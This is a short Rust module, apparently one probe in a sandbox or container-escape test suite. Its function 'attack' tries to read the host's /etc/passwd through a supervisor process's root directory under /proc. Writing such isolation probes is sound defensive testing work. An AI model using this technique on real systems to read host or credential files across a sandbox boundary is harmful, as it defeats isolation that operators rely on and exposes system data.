//! Reads the host's files through the supervisor's root in `/proc`.

use std::io;

use super::Targets;
use super::means::open;
use super::means::process;

pub(super) fn attack(to: &Targets) -> io::Result<()> {
    open(&process(to, "root/etc/passwd"))
}
